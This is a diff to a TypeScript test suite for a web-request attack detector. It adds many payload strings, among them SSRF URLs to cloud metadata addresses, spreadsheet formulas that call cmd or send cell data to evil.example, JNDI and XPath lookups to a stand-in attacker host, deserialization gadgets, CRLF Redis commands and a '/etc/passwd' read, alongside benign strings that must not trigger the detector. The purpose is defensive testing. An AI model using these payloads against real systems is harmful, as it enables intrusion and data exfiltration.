@@ -28,7 +28,7 @@ const FAMILIES: Record<string, string[]> = {
   'xml: XPath': ["'] | //user/*[contains(*,'", "']/../password[text()='", 'doc("http://evil.example/x")', "' or count(//*)>0 or ''='"],
   'ssrf: hosts': each(['http://', 'https://', 'ftp://', 'mysql://root@', 'mongodb://', 'postgres://', 'amqp://'], ['127.0.0.1', 'localhost', '[::1]', '[64:ff9b::7f00:1]', '100.64.0.1', '10.0.0.5', '169.254.169.254'], ['', '/x', ':8080/x?y=z']),
   'ssrf: short spellings': ['http:127.0.0.1', 'http:/127.0.0.1', 'http:\\\\127.0.0.1', 'http://db.service.consul/'],
-  'ssrf: long URLs': [`http://127.0.0.1/?q=${'a'.repeat(5000)}`, `http://169.254.169.254/${'plum/'.repeat(900)}`, `gopher://q.example/_${'SET a b\r\n'.repeat(200)}`],
+  'ssrf: long URLs': [`http://${'a'.repeat(400)}@127.0.0.1/`, `http://${'a'.repeat(4000)}:b@169.254.169.254/`, `http://127.0.0.1/?q=${'a'.repeat(5000)}`, `http://169.254.169.254/${'plum/'.repeat(900)}`, `gopher://q.example/_${'SET a b\r\n'.repeat(200)}`],
   'template: sums': ['{{9-4}}', '[[9+4]]', "[['9'*4]]", '[[(1+2)*3]]', '{%= 9*4 %}', '@(99/3)', "@('9'*4)"],
   'code: Python': ['globals()', 'sys.exit(9)', 'time.sleep(9)', "importlib.import_module('q')", "pickle.loads(b'')", 'plum.__class__', '__builtins__.__dict__', 'platform.node()', "urllib.request.urlopen('http://q')"],
   'code: Java': ['System.exit(1)', 'System.getenv("PATH")', '"id".execute()', 'new URLClassLoader(1)', 'groovy.lang.GroovyShell', 'redirect:${#plum}'],
@@ -39,6 +39,17 @@ const FAMILIES: Record<string, string[]> = {
   'prototype-pollution: names': ['Object.prototype.plum=1', 'a.__lookupGetter__', '["constructor","prototype","x"]'],
   'crlf: other protocols': each(['q\r\n', '\r\n'], ['FLUSHALL\r\n', 'CONFIG SET dir /tmp\r\n', 'SLAVEOF 1.2.3.4 6379\r\n', '*1\r\n$8\r\nFLUSHALL\r\n', 'set kiwi 0 0 3\r\nabc', 'delete kiwi\r\n', 'Bcc: kim@evil.example']),
   'jndi: look-ups': ['${java:os}', '${log4j:configLocation}'],
+  'code: formulas of spreadsheets': ["=cmd|'/c calc'!A9", "+cmd|' /C kiwi'!A0", "@SUM(1+9)*cmd|'/c kiwi'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")', '=IMPORTXML("https://evil.example","//a")', '=DDE("cmd";"/c kiwi";"x")'],
+  'code: static members, classic ASP, PowerShell, Lua': ['@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS', '@java.lang.Math@random()', 'eval request("q")', 'Execute(Request("q"))', '[System.Reflection.Assembly]::Load', "loadstring('q')()", "load('return 9')()", "'.print(9).'", 'print(99*9)'],
+  'deserialization: other formats': ['{"^o":"Gem::Installer"}', '{"json_class":"Gem::Requirement"}', '{"py/reduce":["x"]}', '{"py/object/apply":"q"}', '{"@type":"LLcom.sun.rowset.JdbcRowSetImpl;;"}', "!<tag:yaml.org,2002:js/function> 'x'", "(S'id'\nios\nsystem\n.", "<java.util.PriorityQueue serialization='unserializable-parents'>", '<void method="start"/>', 'name|O:8:"stdClass":0:{}', '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]'],
+  'jndi: look-ups of Commons Text': ['${url:UTF-8:http://evil.example}', '${xml:/etc/q.xml:/a}', '${properties:/etc/q::y}', '${base64Decoder:SGVsbG8=}', '${::-x}', 'jndi:ldap://evil.example/a', 'rmi://evil.example:1099/a'],
+  'xml: XPath and XQuery by their functions': ['count(//*)', 'name(/*[1])', "doc(concat('http://evil.example/',name(/*)))", "environment-variable('PATH')", "for $x in doc('q')//b return $x", "' or last() or '", "')]|//plum/*[contains(*,'", '<?xml-stylesheet href="http://evil.example/q.xsl" type="text/xsl"?><a/>', '<exsl:document href="q">'],
+  'ssrf: half a URL': ['/\\evil.example', '\\/\\/evil.example', '////evil.example', 'https:evil.example', '/\\127.0.0.1', 'view-source:http://127.0.0.1', 'https://q.example/?next=http://169.254.169.254/'],
+  'traversal: parameters of a path, NULs, streams': ['..;/', '/..;/manager/html', 'a/..;x=1/b', 'web.config::$DATA', 'q.txt::$INDEX_ALLOCATION'],
+  'template: Blade, Go, OGNL': ['{!! 9*4 !!}', '@php echo 9; @endphp', '@if(true)x@endif', '{{range .}}{{.}}{{end}}', '${(#a=1)}', '#{function(){return 1}()}'],
+  'nosql: Solr, strings left and entered': ["_query_:\"{!xmlparser v='<x/>'}\"", "'+this.plum+'", "' || obj.plum || '", "' || Object.keys(this)[0] || '"],
+  'sqli: the end of a query alone': ["'-- -", '"-- ', '9-- -', '9;--', '9)-- -'],
+  'command: after an address': ['10.9\nid', 'plum.example\nwhoami'],
   'nosql: Cypher, Redis': ["' RETURN n//", "'}) RETURN n UNION MATCH (m) RETURN m //", "LOAD CSV FROM 'http://q' AS l", 'CALL dbms.procedures()', 'MATCH (n) DETACH DELETE n', 'EVAL "return 1" 0']
 }
 
@@ -50,7 +61,8 @@ const HARMLESS: string[] = [
   'rock -- and roll', 'well-known -ish', 'find-me', 'grep and sed', 'PATH=1', '/etcetera', 'see /var/log for details', 'the dev/null joke', '/dev', 'C:\\Users\\Kim\\a.txt', 'https://example.com/shells.html', 'https://example.com/evil.html',
   "user's [x] / y", 'http://consul.example/', 'mysql://db.example/shop', 'ssh://git@example.com/a.git', '100.64.0.1', '[[2024-01-05]]', '[[1 and 2]]', '{{count}}', '@(someone)', 'kim@example.com (9/3)', 'Thread: Class.forName',
   'return to sender', 'I RETURN home', 'MATCH point', 'CALL me', 'match (a) or return (b)', 'LOAD the van', 'two lines\nCC was here', 'set a 1\nset b 2', 'Cc: everybody', 'delete me', '{"@type":"Person","name":"x"}', 'sorted set', 'Object.prototype',
-  'GET /a is a request', '127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] "GET /a HTTP/1.0" 200 23', 'Traceback (most recent call last):\n  File "/usr/lib/python3/a.py", line 1, in <module>\n    import x', '${java}', 'size 5" > 4"', '"yes" > "no"', 'a "quoted" > word'
+  'GET /a is a request', '127.0.0.1 - - [10/Oct/2000:13:55:36 -0700] "GET /a HTTP/1.0" 200 23', 'Traceback (most recent call last):\n  File "/usr/lib/python3/a.py", line 1, in <module>\n    import x', '${java}', 'size 5" > 4"', '"yes" > "no"', 'a "quoted" > word',
+  '=SUM(A1:A9)', '=A1+B2', '- cmd or ctrl', 'kim@java.example', '[System.Object] is the root', 'load the car', 'count (all of them)', 'for x in list', 'let it be', 'the doc (see http://example.com/)', '/a/b', 'https://example.com/a?next=http://example.org/', 'a; b/', 'price :: cost', '{! note !}', 'if (true) x', 'use a parameter', 'the _query_ of it', "it's this.one", '1 - 2', 'no 9 -- or 10', 'class: java', '{"class":"java"}', '["java",{"level":2}]', 'tree map', 'Gem of a requirement', '10.0.0.1\n10.0.0.2', 'kiwi.example\nplum.example'
 ]
 
 const enc = encodeURIComponent
@@ -111,4 +123,59 @@ test('a script that only a payload has counts in a fence and in a span of code, 
   for (const text of ['<script src="https://cdn.example.com/a.js"></script>', '<script>const a = 1</script>']) {
     for (const body of [`# Title\n\n${PARAGRAPH}\n\`\`\`html\n${text}\n\`\`\`\n`, `${PARAGRAPH} \`${text}\` is it.`]) assert.strictEqual(detector.body({ body }, 'application/json'), undefined, text)
   }
+})
+
+test('crlf: a value that begins with a header, heads of letters and requests, in a query', () => {
+  for (const text of ['\r\nX:1', '\nX-Q: 1', 'q HTTP/1.1\r\nX:1', 'kim@example.com\r\nTo: eve@evil.example', 'q\\r\\nSet-Cookie: a=b', 'q\u010d\u010aSet-Cookie:a=b', 'q\r\n\r\n<h1>plum</h1>']) {
+    assert.ok(detector.request(`/x?q=${enc(text)}`, {}, false) !== undefined, JSON.stringify(text))
+  }
+  for (const text of ['two\r\nlines', 'C:\\new: folder', 'a\\nb: c']) assert.strictEqual(detector.request(`/x?q=${enc(text)}`, {}, false), undefined, text)
+})
+
+test('a NUL in a URL, and only there', () => {
+  for (const text of ['\u0000', 'q\u0000', 'q.jpg\u0000x']) assert.ok(detector.request(`/x?q=${enc(text)}`, {}, false) !== undefined, JSON.stringify(text))
+  assert.strictEqual(detector.body({ q: 'two words\u0000' }, 'application/json'), undefined)
+})
+
+test('arrays that are joined: an attack in several values of one name', () => {
+  for (const parts of [['1/*', '*/union/*', '*/select 1'], ["1' or/*", "*/'1'='1"], ['1;cat /etc/', 'passwd'], ['<script>/*', '*/alert(1)</script>']]) {
+    assert.ok(detector.request(`/x?${parts.map((part) => `q=${enc(part)}`).join('&')}`, {}, false) !== undefined, parts.join())
+    assert.ok(detector.request(`/x?${parts.map((part, i) => `q=${enc(part)}&p${i}=1`).join('&')}`, {}, false) !== undefined, `apart: ${parts.join()}`)
+    assert.ok(detector.body({ q: parts }, 'application/x-www-form-urlencoded') !== undefined, `form: ${parts.join()}`)
+  }
+  const excluding = compileDetection({ exclude: { params: ['q'] } }, { maxBytes: 1e6 })
+  assert.strictEqual(excluding.request('/x?q=1/*&q=*/union/*&q=*/select%201', {}, false), undefined)
+  for (const url of ['/x?f=id&f=name&f=created_at', '/x?tag=c%23&tag=c%2B%2B&tag=java', "/x?n=O'Neil&n=D'Arcy", '/x?size=5%22&size=7%22', '/x?x=select&x=from&x=users', '/x?cat=ls&cat=rm']) assert.strictEqual(detector.request(url, {}, false), undefined, url)
+})
+
+test('constants of a GraphQL document are values', () => {
+  for (const text of ['*)(uid=*', 'http://169.254.169.254/', 'O:8:"stdClass":0:{}', 'php://filter/resource=q', "1' or '1'='1"]) {
+    const query = `{ user(name: ${JSON.stringify(text)}) { id } }`
+    assert.ok(detector.body({ query }, 'application/json') !== undefined, text)
+    assert.ok(detector.body({ query: `mutation { q(a: """${text}""") { id } }` }, 'application/json') !== undefined, `block: ${text}`)
+    assert.ok(detector.body(query, 'application/graphql') !== undefined, `alone: ${text}`)
+    assert.ok(detector.request(`/graphql?query=${enc(query)}`, {}, false) !== undefined, `query: ${text}`)
+  }
+  for (const query of ['{ user(name: "kim") { id name(format: "full") } }', 'query Q($a: String = "x", $b: Int = 1) { list(first: 10, after: "Y3Vyc29yOjEw", where: { name: { contains: "plum" } }) { edges { node { id } } } }', 'fragment F on User { id bio(text: "It\'s (all) fine; or so") }']) {
+    assert.strictEqual(detector.body({ query }, 'application/json'), undefined, query)
+  }
+})
+
+test('names of JSON that lead to a prototype or to an operator when they are merged or taken apart', () => {
+  for (const body of [{ constructor: { prototype: { plum: 1 } } }, { a: [{ constructor: { prototype: {} } }] }, { op: 'add', path: '/__proto__/plum', value: 1 }, { op: 'add', path: '/constructor/prototype/plum' }, { 'user[$ne]': 'a' }]) {
+    assert.ok(detector.body(body, 'application/json') !== undefined, JSON.stringify(body))
+  }
+  for (const body of [{ constructor: 'Ferrari' }, { constructor: { name: 'Ferrari', prototypes: 2 } }, { op: 'add', path: '/prototype/plum' }, { 'price[usd]': 1 }]) assert.strictEqual(detector.body(body, 'application/json'), undefined, JSON.stringify(body))
+  for (const url of ['/x?q%255B%2524ne%255D=1', '/x?user[$ne]', '/x?%23__proto__[a]=1']) assert.ok(detector.request(url, {}, false) !== undefined, url)
+})
+
+test('file names: more of what runs, names that are written backwards, and a header behind a name', () => {
+  const judge = (filename: string): boolean => detector.body({ f: { type: 'file', fieldname: 'f', filename, fields: {} } }, 'multipart/form-data') !== undefined
+  for (const name of ['q.ascx', 'q.jhtml', 'q.yaws', 'q.user.ini', 'q.php?.png', 'q.php#.png', 'q\u202egnp.js', 'q.png\r\nX: 1']) assert.ok(judge(name), JSON.stringify(name))
+  for (const name of ['what is php? notes.md', 'C# course.pdf', 'q.config.ts', 'erbium.txt', 'photo #2.png']) assert.ok(!judge(name), name)
+})
+
+test('pages that scanners ask for, by more names', () => {
+  for (const path of ['/shell.php', '/c99.php', '/kcfinder/upload.php', '/_vti_pvt/service.pwd', '/.ftpconfig', '/sftp-config.json', '/latest/meta-data/', '/site.tar.gz', '/tmUnblock.cgi']) assert.ok(detector.request(path, {}, true) !== undefined, path)
+  for (const path of ['/website', '/site/about', '/shell', '/nagios-plugins', '/latest', '/storage/a.png', '/uploads/photo.png']) assert.strictEqual(detector.request(path, {}, true), undefined, path)
 })
